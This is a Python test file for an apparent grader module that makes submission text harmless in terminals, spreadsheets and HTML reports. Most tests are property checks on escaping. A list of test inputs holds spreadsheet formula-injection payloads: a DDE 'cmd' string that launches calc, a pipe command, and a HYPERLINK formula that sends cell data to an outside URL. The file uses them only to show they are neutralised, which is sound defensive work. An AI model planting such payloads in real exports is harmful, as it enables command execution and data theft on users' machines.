"""Text from a submission cannot act on a terminal."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.reports.inert import ascii_only, cell, harmless, inert, inert_lines, markup


@given(st.text(st.characters(codec=None), max_size=200))
def test_nothing_that_acts_survives(text: str) -> None:
    acting = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert not any(unicodedata.category(c) in acting for c in inert(text))


@given(st.text(st.characters(codec=None), max_size=200))
def test_it_is_the_same_twice_and_can_be_encoded(text: str) -> None:
    assert inert(inert(text, 10_000), 10_000) == inert(text, 10_000)
    inert(text).encode("utf-8")
    assert ascii_only(inert(text)).isascii()


def test_escapes_are_readable() -> None:
    assert inert("a\x1b[31m\tb\nc\r\x9b\u202e\U000e0001") == (
        "a\\x1b[31m    b\\nc\\r\\x9b\\u202e\\U000e0001"
    )


def test_other_scripts_are_left_alone() -> None:
    for text in (
        "Gr\u00fc\u00dfe",
        "\u4e2d\u6587",
        "e\u0301",
        "\u0939\u093f\u0928\u094d\u0926\u0940",
    ):
        assert inert(text) == text


def test_marks_that_pile_up_are_escaped() -> None:
    assert inert("z" + "\u0301" * 4) == "z\u0301\u0301\\u0301\\u0301"


def test_what_was_cut_is_counted() -> None:
    assert inert("x" * 1500, 100) == "x" * 100 + " ... (1,400 more characters)"


def test_the_last_lines_are_kept() -> None:
    assert inert_lines("a\r\nb\nc\n\n", 2) == (["b", "c"], 1)


@given(st.text(st.characters(codec=None), max_size=200))
def test_many_lines_keep_their_breaks_and_nothing_else_that_acts(text: str) -> None:
    shown = harmless(text)
    acting = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert not any(unicodedata.category(c) in acting for c in shown if c not in "\n\t")
    assert shown.count("\n") == text.count("\n")
    assert harmless(shown) == shown


FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =1",
    "\t=1",
    "\uff1d1+1",
    "|calc",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_is_never_a_formula(text: str) -> None:
    assert cell(text).startswith("'")
    assert text.strip() in cell(text)


def test_a_cell_that_is_no_formula_is_left_alone() -> None:
    assert cell("maxpool-routing = 3") == "maxpool-routing = 3"


@given(st.text(st.characters(codec=None), max_size=100))
def test_markup_is_text_and_nothing_else(text: str) -> None:
    from html.parser import HTMLParser

    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag: str, _: object) -> None:
            found.append(tag)

        def handle_comment(self, data: str) -> None:
            found.append(data)

        def handle_decl(self, decl: str) -> None:
            found.append(decl)

    parser = Parser()
    parser.feed(f"<p>{markup(text)}</p>")
    parser.close()
    assert found == ["p"]
    assert '"' not in markup(text)
